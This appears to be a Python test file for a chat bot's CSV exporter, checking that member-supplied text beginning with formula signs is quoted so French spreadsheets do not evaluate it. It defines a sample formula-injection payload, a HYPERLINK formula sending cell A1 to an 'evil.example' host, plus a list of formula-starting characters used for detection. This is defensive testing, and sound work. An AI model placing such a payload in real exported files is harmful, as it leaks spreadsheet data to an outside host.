"""The one CSV writer: a member's formula stays text, and every export opens as columns in a
French spreadsheet (`;`, UTF-8 with BOM)."""

from __future__ import annotations

from sqlalchemy.orm import Session, sessionmaker

from bot.app import App
from handlers.clock import FakeClock
from handlers.csvfile import BOM, cell, csv_bytes, read_csv
from handlers.ideas.export import COLUMNS, to_csv
from store.ideas import figures
from tests.chat import Chat
from tests.checkins_support import STAFF, checkins_to, cohort, paris, tick_at
from tests.fakes.recording_port import RecordingPort
from tests.ideas_world import open_campaign, propose

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would evaluate: starting with a formula sign, even after spaces."""
    return [c for row in rows for c in row if c.lstrip(" ").startswith(FORMULA_STARTS)]


def test_each_formula_sign_is_quoted_and_numbers_are_not() -> None:
    for sign in FORMULA_STARTS:
        assert cell(f"{sign}1+1") == f"'{sign}1+1"
    assert cell("  =1+1") == "'  =1+1"
    assert cell(-3) == "-3" and cell(2.5) == "2.5" and cell(None) == ""
    assert cell("Réunions - 30 min") == "Réunions - 30 min"


def test_a_file_opens_as_columns_in_a_french_spreadsheet() -> None:
    content = csv_bytes(
        ("titre", "texte"), [("Point; virgule", 'Deux lignes\net des "guillemets"'), ("é", 1)]
    )
    assert content.startswith(BOM.encode("utf-8"))
    assert content.splitlines()[0] == BOM.encode("utf-8") + b"titre;texte"
    assert read_csv(content) == [
        ["titre", "texte"],
        ["Point; virgule", 'Deux lignes\net des "guillemets"'],
        ["é", "1"],
    ]


def test_ideas_export_neutralises_a_members_formulas(
    chat: Chat, sessions: sessionmaker[Session]
) -> None:
    open_campaign(chat)
    propose(chat, "bea", "+33 agents concernés", HYPERLINK, problem="-moins de papier")
    propose(chat, "dan", "@SOMME(A1:A9)", "Un formulaire en ligne.")
    with sessions() as session:
        rows = list(figures.export_rows(session))
        stored = rows[0].idea.proposal
        plain, _ = to_csv(rows, pseudonymise=False)
        open_data, _ = to_csv(rows, pseudonymise=True)
    assert stored.startswith("=HYPERLINK(")
    for content in (plain, open_data):
        table = read_csv(content)
        assert table[0] == list(COLUMNS)
        assert {len(row) for row in table} == {len(COLUMNS)}
        assert formula_cells(table) == []
        [first, second] = table[1:]
        proposal = COLUMNS.index("proposition")
        assert first[proposal] == "'" + stored
        assert first[COLUMNS.index("titre")] == "'+33 agents concernés"
        assert second[COLUMNS.index("titre")] == "'@SOMME(A1:A9)"


def test_cohort_export_neutralises_a_members_formula(
    app: App, chat: Chat, clock: FakeClock, port: RecordingPort
) -> None:
    cohort(chat, "Pilotes", ["bea"], "--nominative")
    clock.set(paris(2026, 12, 7, 10))
    chat.command(STAFF, 'checkin planifier "Pilotes" "tous les lundis à 9h"')
    dm = checkins_to(tick_at(app, clock, port, paris(2026, 12, 14, 9)), "bea")[0]
    chat.press("bea", dm.button(dm.buttons[0].label), on=dm)
    assert dm.message_id is not None
    chat.reply("bea", dm.message_id, HYPERLINK)
    [export] = [
        s for s in chat.command(STAFF, 'cohorte export "Pilotes"') if s.message and s.message.files
    ]
    assert export.message is not None
    table = read_csv(export.message.files[0].content)
    assert len({len(row) for row in table}) == 1
    assert formula_cells(table) == []
    assert any(c.startswith("'=HYPERLINK(") for c in table[1])
